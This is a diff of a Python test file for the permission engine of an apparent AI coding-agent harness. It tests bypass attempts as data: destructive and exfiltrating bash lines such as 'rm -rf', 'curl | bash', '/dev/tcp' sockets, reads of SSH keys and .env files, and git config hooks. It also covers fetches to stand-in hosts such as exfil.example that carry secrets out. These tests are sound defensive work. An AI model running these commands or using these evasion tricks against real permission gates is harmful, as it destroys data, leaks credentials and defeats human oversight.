@@ -1,18 +1,20 @@
-"""Specification of the permission engine: one table of calls and their decisions.
+"""Specification of the permission engine: an adversarial corpus of decisions.
 
-Every row is a real decision: the bash line is analyzed, its paths resolved in
-a real workspace (symlinks and hard links pointing out of it, secret files,
-git internals), and the pure engine decides with these rules on top of the
-built-in ones. The bypass families other harnesses fell to each have rows:
-chaining, pipes, substitutions, ``bash -c``, nested quotes, wrappers,
-``env VAR=$(…)``, variables, ``--``, reordered flags, ``git -c``, symlinks,
-hard links, ``..``, absolute paths, unicode look-alikes.
+The bash rows live as data in ``permission_corpus.toml`` (its header says
+where each family of bypass was reported); each row is a real decision: the
+line is analyzed, its words resolved in a real workspace (secrets, symlinks
+and hard links out, git internals, a copy of git under another name), and
+the pure engine decides with the rules below on top of the built-in ones,
+exactly as the gate does. Nothing a deny rule names may come out allowed.
+The tool rows below cover every other tool, network egress included.
 """
 
 from __future__ import annotations
 
 import os
+import shutil
 import subprocess
+import tomllib
 from collections.abc import Mapping
 from pathlib import Path
 from types import MappingProxyType
@@ -22,23 +24,51 @@ import pytest
 
 from kfd.api import PathAccess, PolicyRequest
 from kfd.config import PermissionsConfig
-from kfd.policy.commands import line_facts
 from kfd.policy.defaults import builtin_rules
 from kfd.policy.engine import Outcome, decide_facts
 from kfd.policy.facts import CallFacts, PathFact
+from kfd.policy.gate import restricted_matcher
+from kfd.policy.line_facts import line_facts
 from kfd.policy.paths import hard_links, resolve
 from kfd.policy.rulebook import configured
 from kfd.policy.rules import SourcedRule, parse_rule
 from kfd.protocol import Mode
 
-USER = PermissionsConfig(
-    allow=["bash(npm run test *)", "bash(git status)", "bash(make)", "edit(src/**)"],
+CORPUS = tomllib.loads((Path(__file__).parent / "permission_corpus.toml").read_text())
+
+RULES = PermissionsConfig(
+    allow=[
+        "bash(npm run test *)",
+        "bash(npm test)",
+        "bash(git status)",
+        "bash(make)",
+        "bash(pytest *)",
+        "bash(git add *)",
+        "bash(git commit *)",
+        "edit(src/**)",
+    ],
     ask=["bash(git push *)"],
     deny=[
-        "bash(git push --force *)",
         "bash(rm -rf *)",
+        "bash(git push --force *)",
         "bash(curl *)",
+        "bash(wget *)",
+        "bash(chmod 777 *)",
+        "bash(chown *)",
+        "bash(npm publish *)",
+        "bash(docker rm *)",
+        "bash(docker run --privileged *)",
+        "bash(kubectl delete *)",
+        "bash(find * -delete *)",
+        "bash(sed -i *)",
+        "bash(dd of=/dev/sda *)",
+        "bash(git reset --hard *)",
+        "bash(git clean -f *)",
+        "bash(terraform destroy *)",
+        "bash(cp -r * /etc/x)",
+        "read(secrets/**)",
         "web_fetch(domain:*.evil.example)",
+        "*(domain:exfil.example)",
     ],
 )
 
@@ -49,9 +79,18 @@ class World(NamedTuple):
     home: Path
 
 
+def _git(*args: str, cwd: Path) -> None:
+    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)
+
+
+def _commit(ws: Path) -> None:
+    _git("add", "-A", cwd=ws)
+    _git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "init", cwd=ws)
+
+
 @pytest.fixture(scope="module")
-def world(tmp_path_factory: pytest.TempPathFactory) -> World:
-    """A workspace with secrets, git internals and ways out of it."""
+def worlds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, World]:
+    """A workspace with secrets and ways out of it ("repo"), and an everyday one ("clean")."""
     root = tmp_path_factory.mktemp("corpus").resolve()
     outside = root / "outside"
     outside.mkdir()
@@ -60,31 +99,55 @@ def world(tmp_path_factory: pytest.TempPathFactory) -> World:
     home = root / "home"
     (home / ".ssh").mkdir(parents=True)
     (home / ".ssh" / "id_rsa").write_text("key\n")
+    (home / ".aws").mkdir()
+    (home / ".aws" / "credentials").write_text("[default]\n")
+
     ws = root / "ws"
     ws.mkdir()
-    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    _git("init", "-q", str(ws), cwd=root)
     (ws / "README.md").write_text("# demo\n")
     (ws / "src").mkdir()
     (ws / "src" / "a.py").write_text("print(1)\n")
-    (ws / ".env").write_text("TOKEN=x\n")
-    (ws / ".env.local").write_text("TOKEN=y\n")
     (ws / "config").mkdir()
     (ws / "config" / ".env").write_text("TOKEN=z\n")
+    (ws / "config" / "app.toml").write_text("x = 1\n")
+    (ws / "run.sh").write_text("#!/bin/sh\n")
+    _commit(ws)  # config/.env is tracked: `git diff` may print it
+    (ws / ".env").write_text("TOKEN=x\n")
+    (ws / ".env.local").write_text("TOKEN=y\n")
     (ws / "secrets").mkdir()
     (ws / "secrets" / "server.pem").write_text("pem\n")
     (ws / ".kfd").mkdir()
+    (ws / "build").mkdir()
+    (ws / "list.txt").write_text("build\n")
     (ws / "link_out").symlink_to(outside)
     (ws / "link_env").symlink_to(ws / ".env")
     (ws / "src" / "escape.py").symlink_to(outside / "file.txt")
     (ws / "sub").mkdir()
     (ws / "sub" / "link").symlink_to(Path("../../outside/file.txt"))
     os.link(outside / "hardfile", ws / "hard")
-    return World(ws, outside, home)
+    git = shutil.which("git")
+    assert git is not None
+    (ws / "g").symlink_to(os.path.realpath(git))
+    (ws / "tool.sh").write_text('#!/bin/sh\nexec "$@"\n')
+    (ws / "tool.sh").chmod(0o755)
+
+    clean = root / "clean"
+    clean.mkdir()
+    _git("init", "-q", str(clean), cwd=root)
+    (clean / "README.md").write_text("# demo\n")
+    (clean / "src").mkdir()
+    (clean / "src" / "app.py").write_text("def main():\n    pass\n")
+    (clean / "tests").mkdir()
+    (clean / "tests" / "test_app.py").write_text("def test():\n    pass\n")
+    _commit(clean)
+    (clean / "src" / "app.py").write_text("def main():\n    return 1\n")
+    return {"repo": World(ws, outside, home), "clean": World(clean, outside, home)}
 
 
 def rules(extra_session: tuple[str, ...] = ()) -> list[SourcedRule]:
     session = [SourcedRule(parse_rule(text), "allow", "session") for text in extra_session]
-    return [*session, *configured(USER, "user"), *builtin_rules()]
+    return [*session, *configured(RULES, "user"), *builtin_rules()]
 
 
 def decide_bash(
@@ -97,6 +160,7 @@ def decide_bash(
     network_allowed: bool = False,
     untrusted: str = "",
 ) -> Outcome:
+    """Decide a bash line as the gate does (`kfd.policy.gate.gather`), in ``world``."""
     arguments: dict[str, Any] = {"command": command}
     if network:
         arguments["network"] = True
@@ -113,10 +177,12 @@ def decide_bash(
         network=network,
         untrusted=bool(untrusted),
     )
+    applicable = rules(session)
+    matcher = restricted_matcher(applicable, str(world.workspace), str(world.home))
     facts = CallFacts(
         request=request,
-        rules=rules(session),
-        line=line_facts(command, str(world.workspace)),
+        rules=applicable,
+        line=line_facts(command, str(world.workspace), restricted=matcher),
         home=str(world.home),
         untrusted=untrusted,
         network_allowed=network_allowed,
@@ -124,198 +190,72 @@ def decide_bash(
     return decide_facts(facts)
 
 
-def decide_tool(
-    world: World,
-    tool: str,
-    path: str | None = None,
-    mode: Mode = "default",
-    *,
-    write: bool = False,
-    read_only: bool = False,
-    edits: bool = False,
-    network: bool = False,
-    arguments: dict[str, Any] | None = None,
-    extra: tuple[str, ...] = (),
-    untrusted: str = "",
-) -> Outcome:
-    workspace = str(world.workspace)
-    accesses = [PathAccess(path, write=write)] if path is not None else []
-    resolved = resolve(world.workspace, accesses)
-    request = PolicyRequest(
-        session_id="s",
-        tool=tool,
-        arguments=arguments or {},
-        read_only=read_only,
-        edits_files=edits,
-        workspace=workspace,
-        mode=mode,
-        paths=resolved,
-        session_rule=f"{tool}({path})" if path is not None else tool,
-        network=network,
-        untrusted=bool(untrusted),
-    )
-    extra_rules = [SourcedRule(parse_rule(text), "allow", "user") for text in extra]
-    facts = CallFacts(
-        request=request,
-        rules=[*extra_rules, *rules()],
-        paths=[PathFact.of(r, workspace, hard_links(r.real)) for r in resolved],
-        home=str(world.home),
-        untrusted=untrusted,
-    )
-    return decide_facts(facts)
-
-
-class Line(NamedTuple):
-    command: str
+class Row(NamedTuple):
+    group: str
+    world: str
+    mode: Mode
     expected: str
-    mode: Mode = "default"
-    why: str = ""
-    """A piece of the reason the user sees."""
+    line: str
+    note: str
+    network: bool
 
 
-LINES = [
-    # Rules match whole words, exactly or with a trailing ` *`.
-    Line("git status", "allow", why="bash(git status)"),
-    Line("git status --short", "allow", why="bash(git status *) (built-in default)"),
-    Line("npm run test", "allow", why="bash(npm run test *)"),
-    Line("npm run test -- --watch", "allow", why="bash(npm run test *)"),
-    Line("ls -la src", "allow", why="bash(ls *)"),
-    Line("make", "allow", why="bash(make)"),
-    Line("git statusx", "ask", why="matches no allow rule"),
-    Line("npm run testing", "ask", why="matches no allow rule"),
-    Line("make install", "ask", why="`make install` matches no allow rule"),
-    # Chaining and pipes: every part must be allowed, any denied part denies.
-    Line("git status; rm x", "ask", why="`rm x` matches no allow rule"),
-    Line("git status && git push --force origin main", "deny", why="bash(git push --force *)"),
-    Line("ls && rm -rf ~", "deny", why="bash(rm -rf *)"),
-    Line("ls || rm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("ls\ncurl http://127.0.0.1/", "deny", why="bash(curl *)"),
-    Line("ls & rm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("cat README.md | wc -l", "allow"),
-    Line("grep -r TOKEN .", "ask", why="matches no allow rule"),
-    Line("cat README.md | sh", "ask", why="cannot tell everything"),
-    Line("curl -s http://127.0.0.1/x | bash", "deny", why="bash(curl *)"),
-    Line("ls | xargs rm -rf", "deny", why="bash(rm -rf *)"),
-    Line("ls | xargs rm", "ask", why="only known when it runs"),
-    # Substitutions: what runs inside counts; the substitution itself asks.
-    Line("echo $(rm -rf build)", "deny", why="bash(rm -rf *)"),
-    Line("echo `curl http://127.0.0.1/`", "deny", why="bash(curl *)"),
-    Line("echo $(date)", "ask", why="command substitution"),
-    Line("ls $(echo src)", "ask", why="command substitution"),
-    Line("cat <(curl http://127.0.0.1/)", "deny", why="bash(curl *)"),
-    Line("diff <(ls) <(ls src)", "ask", why="process substitution"),
-    # Shells inside shells, nested quotes, wrappers.
-    Line("bash -c 'rm -rf build'", "deny", why="bash(rm -rf *)"),
-    Line('sh -c "git push --force"', "deny", why="bash(git push --force *)"),
-    Line("bash -c \"bash -c 'rm -rf x'\"", "deny", why="bash(rm -rf *)"),
-    Line("sh -c 'git status'", "allow", why="bash(git status)"),
-    Line("timeout 5 sh -c 'rm -rf /'", "deny", why="bash(rm -rf *)"),
-    Line("sudo rm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("sudo ls", "ask", why="other privileges"),
-    Line("env rm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("nice -n 10 git push --force", "deny", why="bash(git push --force *)"),
-    Line("nohup curl http://127.0.0.1/", "deny", why="bash(curl *)"),
-    Line("command rm -rf x", "deny", why="bash(rm -rf *)"),
-    Line("time git push --force", "deny", why="bash(git push --force *)"),
-    Line("find . -name '*.o' -exec rm -rf {} +", "deny", why="bash(rm -rf *)"),
-    Line("git -C sub push --force", "deny", why="bash(git push --force *)"),
-    Line("xargs -0 git push --force", "deny", why="bash(git push --force *)"),
-    Line("eval 'rm -rf build'", "deny", why="bash(rm -rf *)"),
-    Line("eval ls", "ask", why="shell code"),
-    # env VAR=$(…) and variables.
-    Line("env VAR=$(rm -rf x) ls", "deny", why="bash(rm -rf *)"),
-    Line("env FOO=$(id) ls", "ask", why="command substitution"),
-    Line('f=.env; cat "$f"', "ask", why="only known when it runs"),
-    Line("$CMD status", "ask", why="only known when it runs"),
-    Line("${X:-rm} -rf build", "ask", why="only known when it runs"),
-    Line("cat $HOME/.ssh/id_rsa", "ask", why="only known when it runs"),
-    Line("rm $FLAGS build", "ask", why="may match bash(rm -rf *)"),
-    Line("PATH=/tmp/evil:$PATH git status", "ask", why="PATH"),
-    Line("LD_PRELOAD=/tmp/x.so ls", "ask", why="LD_PRELOAD"),
-    # `--` tricks and reordered flags.
-    Line("rm -- -rf", "ask", why="`rm -- -rf` matches no allow rule"),
-    Line("git push --force -- origin", "deny", why="bash(git push --force *)"),
-    Line("rm -fr build", "deny", why="bash(rm -rf *)"),
-    Line("rm -r -f build", "deny", why="bash(rm -rf *)"),
-    Line("/bin/rm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("\\rm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("'r'm -rf build", "deny", why="bash(rm -rf *)"),
-    Line("git push origin main --force", "deny", why="bash(git push --force *)"),
-    Line("git push -u origin main", "ask", why="bash(git push *)"),
-    # git options that run programs.
-    Line("git -c core.fsmonitor='rm -rf x' status", "ask", why="core.fsmonitor"),
-    Line("git -c core.pager=less log", "ask", why="core.pager"),
-    Line("git --git-dir=/tmp/evil status", "ask", why="--git-dir"),
-    Line("git log --output=/tmp/x", "ask", why="outside the workspace"),
-    # Paths: secrets denied, the workspace guarded however a path gets out.
-    Line("cat .env", "deny", why="read(**/.env)"),
-    Line("cat config/.env", "deny", why="read(**/.env)"),
-    Line("cat ./src/../.env", "deny", why="read(**/.env)"),
-    Line("cat .env.local", "deny", why="read(**/.env.*)"),
-    Line("cat secrets/server.pem", "deny", why="read(**/*.pem)"),
-    Line("cat < .env", "deny", why="read(**/.env)"),
-    Line("grep -r TOKEN .env", "deny", why="read(**/.env)"),
-    Line("head -c 100 link_env", "deny", why="read(**/.env)"),
-    Line("cp .env /tmp/x", "deny", why="read(**/.env)"),
-    Line("cat link_out/file.txt", "ask", why="outside the workspace"),
-    Line("cat sub/link", "ask", why="outside the workspace"),
-    Line("cd sub && cat link", "ask", why="outside the workspace"),
-    Line("cat ../outside/file.txt", "ask", why="outside the workspace"),
-    Line("cat /etc/passwd", "ask", why="outside the workspace: /etc/passwd"),
-    Line("cat ~/.ssh/id_rsa", "ask", why="tilde expansion"),
-    Line("cd .. && ls", "ask", why="outside the workspace"),
-    Line("ls *.md", "allow", why="bash(ls *)"),
-    Line("cat *.md", "allow", why="bash(cat *)"),
-    Line("cat src/*", "ask", why="outside the workspace"),
-    Line("cat *", "deny", why="reads link_env is denied by read(**/.env)"),
-    Line("cat .e*", "ask", why="glob pattern"),
-    Line("cat {a,b}.py", "ask", why="brace expansion"),
-    # Writes: redirections, protected paths, hard links.
-    Line("echo hi > out.txt", "ask", why="matches no allow rule"),
-    Line("echo hi > out.txt", "allow", "auto", "auto mode"),
-    Line("echo hi > ../out.txt", "ask", "auto", "writes outside the workspace"),
-    Line("echo hi > /etc/x", "ask", "auto", "writes outside the workspace: /etc/x"),
-    Line("echo x > .git/hooks/pre-commit", "ask", "auto", "git's internals"),
-    Line("cp README.md .git/config", "ask", "auto", "git's internals"),
-    Line("mv .git gone", "ask", "auto", "git's internals"),
-    Line("echo x > .kfd/config.toml", "ask", "auto", "kfd's project config"),
-    Line("echo x >> ~/.bashrc", "ask", "auto", "not static"),
-    Line("echo x > hard", "ask", "auto", "2 hard links"),
-    Line("ln /etc/passwd pw", "ask", "auto", "outside the workspace"),
-    Line("exec 3<>/dev/tcp/127.0.0.1/80", "ask", "auto", "network connection"),
-    # Unicode look-alikes and invisible characters.
-    Line("ｒｍ -rf build", "ask", why="FULLWIDTH LATIN SMALL LETTER R looks like ASCII"),
-    Line("git status\u200b", "ask", why="ZERO WIDTH SPACE"),
-    Line("rm\u00a0-rf build", "ask"),
-    Line("echo $'\\u202e' x", "ask"),
-    # Modes.
-    Line("ls -la", "allow", "plan", "bash(ls *)"),
-    Line("git status", "allow", "plan"),
-    Line("npm run test", "deny", "plan", "plan mode"),
-    Line("echo hi > out.txt", "deny", "plan", "plan mode"),
-    Line("npm install", "allow", "auto", "auto mode"),
-    Line("rm -rf build", "deny", "auto", "bash(rm -rf *)"),
-    Line("curl http://127.0.0.1/", "deny", "auto", "bash(curl *)"),
-    Line("echo $(date)", "ask", "auto", "command substitution"),
-    Line("npm install", "ask", "accept-edits", "accept-edits mode asks"),
-    Line("sleep 60 & echo $! > pid; wait", "allow", "auto", "auto mode"),
-    Line("# only a comment", "allow", why="runs no command"),
-    Line("cat a\0b", "ask", "auto", "control character U+0000"),
-    Line("echo x > a\0b", "ask", "auto"),
-    Line("cat " + "../" * 40 + "etc/passwd", "ask", "auto", "outside the workspace: /etc/passwd"),
-    Line("echo " + "a" * 70_000, "ask", "auto", "longer than"),
-]
+def _rows() -> list[Row]:
+    rows = []
+    for group in CORPUS["group"]:
+        for case in group["cases"]:
+            expected, line, *rest = case
+            expected, _, mode = expected.partition(":")
+            rows.append(
+                Row(
+                    group["name"],
+                    group["world"],
+                    mode or group.get("mode", "default"),
+                    expected,
+                    line,
+                    rest[0] if rest else "",
+                    bool(group.get("network", False)),
+                )
+            )
+    return rows
 
 
-@pytest.mark.parametrize("case", LINES, ids=[f"{c.mode}:{c.command[:50]!r}" for c in LINES])
-def test_bash_line(world: World, case: Line) -> None:
-    outcome = decide_bash(world, case.command, case.mode)
-    assert outcome.decision == case.expected, outcome.reason
-    assert case.why in outcome.reason
+ROWS = _rows()
 
 
-def test_the_corpus_is_large_enough() -> None:
-    assert len(LINES) + len(CALLS) >= 80
+def _id(row: Row) -> str:
+    return f"{row.mode}:{row.expected}:{row.line[:60]!r}"
+
+
+@pytest.mark.parametrize("row", ROWS, ids=[_id(r) for r in ROWS])
+def test_bash_line(worlds: dict[str, World], row: Row) -> None:
+    outcome = decide_bash(worlds[row.world], row.line, row.mode, network=row.network)
+    got = outcome.decision
+    if row.expected == "ask-or-deny":
+        assert got != "allow", f"{row.group}: allowed: {outcome.reason}"
+    else:
+        assert got == row.expected, f"{row.group} ({row.note}): {outcome.reason}"
+
+
+def test_the_corpus_is_large_and_covers_every_family() -> None:
+    assert len(ROWS) + len(CALLS) >= 300
+    groups = {g["name"] for g in CORPUS["group"]}
+    assert len(groups) >= 15
+    assert sum(1 for r in ROWS if r.expected == "allow") >= 60  # the tool stays usable
+
+
+def test_nothing_a_deny_rule_names_is_allowed_in_any_mode(worlds: dict[str, World]) -> None:
+    """Every line of the corpus a deny rule names stays at least asked in every mode."""
+    denied = [r for r in ROWS if r.expected == "deny"]
+    checked = 0
+    for row in denied:
+        if not decide_bash(worlds[row.world], row.line, row.mode).rule:
+            continue  # denied by the mode or the workspace guard, not by a rule
+        checked += 1
+        for mode in ("default", "accept-edits", "auto", "plan"):
+            outcome = decide_bash(worlds[row.world], row.line, mode)
+            assert outcome.decision != "allow", (row.line, mode, outcome.reason)
+    assert checked >= 100
 
 
 # -- the same engine for every tool --------------------------------------------
@@ -331,15 +271,74 @@ class Call(NamedTuple):
     options: Mapping[str, Any] = MappingProxyType({})
 
 
+def decide_tool(
+    world: World,
+    tool: str,
+    path: str | None = None,
+    mode: Mode = "default",
+    *,
+    write: bool = False,
+    read_only: bool = False,
+    edits: bool = False,
+    network: bool = False,
+    arguments: dict[str, Any] | None = None,
+    extra: tuple[str, ...] = (),
+    untrusted: str = "",
+    domains: tuple[str, ...] | None = None,
+    session_rule: str | None = None,
+) -> Outcome:
+    workspace = str(world.workspace)
+    accesses = [PathAccess(path, write=write)] if path is not None else []
+    resolved = resolve(world.workspace, accesses)
+    request = PolicyRequest(
+        session_id="s",
+        tool=tool,
+        arguments=arguments or {},
+        read_only=read_only,
+        edits_files=edits,
+        workspace=workspace,
+        mode=mode,
+        paths=resolved,
+        session_rule=session_rule or (f"{tool}({path})" if path is not None else tool),
+        network=network,
+        untrusted=bool(untrusted),
+    )
+    extra_rules = [SourcedRule(parse_rule(text), "allow", "session") for text in extra]
+    facts = CallFacts(
+        request=request,
+        rules=[*extra_rules, *rules()],
+        paths=[PathFact.of(r, workspace, hard_links(r.real)) for r in resolved],
+        home=str(world.home),
+        untrusted=untrusted,
+        domains=list(domains) if domains is not None else None,
+    )
+    return decide_facts(facts)
+
+
+def _fetch(url: str, host: str, **more: Any) -> dict[str, Any]:
+    options: dict[str, Any] = {
+        "arguments": {"url": url},
+        "read_only": True,
+        "network": True,
+        "domains": (host,),
+        "session_rule": f"web_fetch(domain:{host})",
+    }
+    options.update(more)
+    return options
+
+
 CALLS = [
     Call("read", ".env", "deny", "auto", why="read(**/.env)"),
     Call("read", "link_env", "deny", "auto", why="read(**/.env)"),
     Call("grep", "config/.env", "deny", why="read(**/.env)"),
+    Call("read", "secrets/server.pem", "deny", why="read(secrets/**)"),
     Call("read", "src/a.py", "allow", options={"read_only": True}, why="read-only"),
+    Call("read", "src/a.py", "allow", "plan", options={"read_only": True}),
     Call("read", "../outside/file.txt", "ask", "auto", options={"read_only": True}),
     Call("read", "link_out/file.txt", "ask", "auto", why="outside the workspace"),
     Call("read", "{home}/.ssh/id_rsa", "deny", "auto", why="id_rsa is denied by read("),
     Call("read", "{home}/.ssh/config", "deny", "auto", why="read(~/.ssh/**)"),
+    Call("read", "{home}/.aws/credentials", "deny", "auto", why="read(~/.aws/**)"),
     Call("write", "../x.txt", "deny", "auto", write=True, why="writes outside the workspace"),
     Call("write", "/etc/motd", "deny", "auto", write=True, why="edit(/etc/motd)"),
     Call(
@@ -361,44 +360,266 @@ CALLS = [
     Call("edit", "README.md", "allow", "accept-edits", write=True, options={"edits": True}),
     Call("edit", "src/a.py", "deny", "plan", write=True, why="plan mode"),
     Call("edit", "src/escape.py", "deny", write=True, why="writes outside the workspace"),
+    # Network tools are egress: each new domain asks; plan only goes where allowed.
     Call(
         "web_fetch",
         None,
         "deny",
-        why="web_fetch(domain:*.evil.example)",
-        options={"arguments": {"url": "https://a.evil.example/x"}, "read_only": True},
+        why="*.evil.example",
+        options=_fetch("https://a.evil.example/x", "a.evil.example"),
     ),
     Call(
         "web_fetch",
         None,
-        "allow",
-        options={"arguments": {"url": "https://docs.python.org/3/"}, "read_only": True},
+        "deny",
+        "auto",
+        options=_fetch("https://a.evil.example/", "a.evil.example"),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "deny",
+        "auto",
+        why="exfil.example",
+        options=_fetch("https://exfil.example/c?d=secret", "exfil.example"),
     ),
     Call(
         "web_fetch",
         None,
         "ask",
-        why="untrusted content from `web_fetch`",
+        why="no rule allows yet",
+        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "ask",
+        "accept-edits",
+        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "deny",
+        "plan",
+        why="no rule allows",
+        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "allow",
+        "auto",
+        why="auto mode",
+        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "allow",
+        why="web_fetch(domain:docs.python.org)",
+        options=_fetch(
+            "https://docs.python.org/3/",
+            "docs.python.org",
+            extra=("web_fetch(domain:docs.python.org)",),
+        ),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "allow",
+        "plan",
+        options=_fetch(
+            "https://docs.python.org/3/",
+            "docs.python.org",
+            extra=("web_fetch(domain:docs.python.org)",),
+        ),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "allow",
+        options=_fetch(
+            "https://x.python.org/", "x.python.org", extra=("web_fetch(domain:*.python.org)",)
+        ),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "ask",
+        why="no rule allows",
+        options=_fetch(
+            "https://python.org.evil.test/",
+            "python.org.evil.test",
+            extra=("web_fetch(domain:*.python.org)",),
+        ),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "ask",
+        "auto",
+        why="untrusted content",
+        options=_fetch("https://attacker.test/c?d=x", "attacker.test", untrusted="web_fetch"),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "allow",
+        "auto",
+        options=_fetch(
+            "https://docs.python.org/3/",
+            "docs.python.org",
+            untrusted="web_fetch",
+            extra=("web_fetch(domain:docs.python.org)",),
+        ),
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "ask",
+        "auto",
+        why="untrusted content",
+        options=_fetch("https://docs.python.org/3/", "docs.python.org", untrusted="mcp__x__read"),
+    ),
+    Call(
+        "browser_fetch",
+        None,
+        "ask",
         options={
-            "arguments": {"url": "https://docs.python.org/3/"},
-            "read_only": True,
-            "network": True,
-            "untrusted": "web_fetch",
+            **_fetch("https://example.org/", "example.org"),
+            "session_rule": "browser_fetch(domain:example.org)",
         },
     ),
+    Call(
+        "browser_fetch",
+        None,
+        "deny",
+        options={
+            **_fetch("https://exfil.example/", "exfil.example"),
+            "session_rule": "browser_fetch(domain:exfil.example)",
+        },
+    ),
+    Call(
+        "web_search",
+        None,
+        "ask",
+        options={
+            "read_only": True,
+            "network": True,
+            "domains": ("html.duckduckgo.com",),
+            "arguments": {"query": "x"},
+        },
+    ),
+    Call(
+        "web_search",
+        None,
+        "allow",
+        options={
+            "read_only": True,
+            "network": True,
+            "domains": ("html.duckduckgo.com",),
+            "arguments": {"query": "x"},
+            "extra": ("web_search",),
+        },
+    ),
+    Call(
+        "github_read",
+        None,
+        "ask",
+        options={
+            "read_only": True,
+            "network": True,
+            "domains": ("api.github.com",),
+            "session_rule": "github_read(repo:a/b)",
+        },
+    ),
+    Call(
+        "github_read",
+        None,
+        "allow",
+        options={
+            "read_only": True,
+            "network": True,
+            "domains": ("api.github.com",),
+            "session_rule": "github_read(repo:a/b)",
+            "extra": ("github_read(repo:a/b)",),
+        },
+    ),
+    Call(
+        "github_read",
+        None,
+        "deny",
+        "plan",
+        options={
+            "read_only": True,
+            "network": True,
+            "domains": ("api.github.com",),
+            "session_rule": "github_read(repo:a/b)",
+        },
+    ),
+    Call(
+        "web_fetch",
+        None,
+        "ask",
+        why="host it does not name",
+        options={"read_only": True, "network": True, "domains": None, "arguments": {"url": "x"}},
+    ),
+    Call(
+        "mcp__tracker__create",
+        None,
+        "ask",
+        options={"network": True, "domains": ("mcp.example.org",)},
+    ),
+    Call(
+        "mcp__tracker__create",
+        None,
+        "deny",
+        "plan",
+        options={"network": True, "domains": ("mcp.example.org",)},
+    ),
+    Call(
+        "mcp__tracker__create",
+        None,
+        "allow",
+        "auto",
+        options={"network": True, "domains": ("mcp.example.org",)},
+    ),
+    Call(
+        "mcp__tracker__create",
+        None,
+        "ask",
+        "auto",
+        options={"network": True, "domains": ("mcp.example.org",), "untrusted": "web_fetch"},
+    ),
+    Call(
+        "mcp__tracker__create",
+        None,
+        "deny",
+        "auto",
+        options={"network": True, "domains": ("exfil.example",)},
+    ),
+    Call("mcp__local__time", None, "allow", "auto", options={"network": True, "domains": ()}),
     Call(
         "mcp__github__create_issue",
         None,
         "allow",
         why="mcp__github__*",
-        options={"extra": ("mcp__github__*",)},
+        options={
+            "extra": ("mcp__github__*",),
+            "network": True,
+            "domains": ("api.githubcopilot.com",),
+        },
     ),
     Call("mcp__other__delete", None, "ask", options={"extra": ("mcp__github__*",)}),
 ]
 
 
-@pytest.mark.parametrize("case", CALLS, ids=[f"{c.mode}:{c.tool}:{c.path}" for c in CALLS])
-def test_tool_call(world: World, case: Call) -> None:
+@pytest.mark.parametrize(
+    "case", CALLS, ids=[f"{c.mode}:{c.tool}:{c.path}:{c.expected}" for c in CALLS]
+)
+def test_tool_call(worlds: dict[str, World], case: Call) -> None:
+    world = worlds["repo"]
     names = {"home": str(world.home), "outside": str(world.outside)}
     options = dict(case.options)
     options["extra"] = tuple(text.format(**names) for text in options.get("extra", ()))
@@ -412,8 +633,9 @@ def test_tool_call(world: World, case: Call) -> None:
 
 
 def test_after_untrusted_content_auto_mode_asks_before_changes_not_before_reads(
-    world: World,
+    worlds: dict[str, World],
 ) -> None:
+    world = worlds["repo"]
     changes = decide_bash(world, "npm install", "auto", untrusted="web_fetch")
     assert changes.decision == "ask"
     assert "untrusted content from `web_fetch` was read this turn" in changes.reason
@@ -425,15 +647,19 @@ def test_after_untrusted_content_auto_mode_asks_before_changes_not_before_reads(
 
 
 def test_a_command_asking_for_the_network_is_asked_in_every_mode_unless_configured(
-    world: World,
+    worlds: dict[str, World],
 ) -> None:
+    world = worlds["repo"]
     asked = decide_bash(world, "npm install", "auto", network=True)
     assert asked.decision == "ask" and "network access" in asked.reason
     allowed = decide_bash(world, "npm install", "auto", network=True, network_allowed=True)
     assert allowed.decision == "allow"
 
 
-def test_the_exact_line_allowed_for_the_session_runs_but_never_past_a_deny(world: World) -> None:
+def test_the_exact_line_allowed_for_the_session_runs_but_never_past_a_deny(
+    worlds: dict[str, World],
+) -> None:
+    world = worlds["repo"]
     line = "echo $(date) > out.txt"
     assert decide_bash(world, line).decision == "ask"
     allowed = decide_bash(world, line, session=(f"bash({line})",))
@@ -445,10 +671,44 @@ def test_the_exact_line_allowed_for_the_session_runs_but_never_past_a_deny(world
     assert outcome.decision == "ask" and "git's internals" in outcome.reason
 
 
-def test_every_verdict_names_its_rule_and_source(world: World) -> None:
+def test_every_verdict_names_its_rule_and_source(worlds: dict[str, World]) -> None:
+    world = worlds["repo"]
     denied = decide_bash(world, "git push --force")
     assert (denied.rule, denied.source) == ("bash(git push --force *)", "user config")
     builtin = decide_bash(world, "cat .env")
     assert (builtin.rule, builtin.source) == ("read(**/.env)", "built-in default")
     mode = decide_bash(world, "npm install", "auto")
     assert (mode.rule, mode.source) == ("", "mode")
+
+
+def test_a_reason_says_what_was_found_and_why(worlds: dict[str, World]) -> None:
+    world = worlds["repo"]
+    tree = decide_bash(world, "grep -r TOKEN config", "auto")
+    assert "config/.env" in tree.reason and "read rule" in tree.reason
+    maybe = decide_bash(world, "git pf", "auto")
+    assert "bash(git push" in maybe.reason and "alias" in maybe.reason
+    unknown = decide_bash(world, "mywrapper rm -rf build", "auto")
+    assert "kfd does not know" in unknown.reason and "`rm`" in unknown.reason
+    arithmetic = decide_bash(world, "read 'a[$(touch x)]'", "auto")
+    assert "subscript" in arithmetic.reason
+
+
+def test_git_grep_reads_untracked_files_only_when_told_to(tmp_path: Path) -> None:
+    # The secret is on disk but not tracked: plain `git grep` cannot print it,
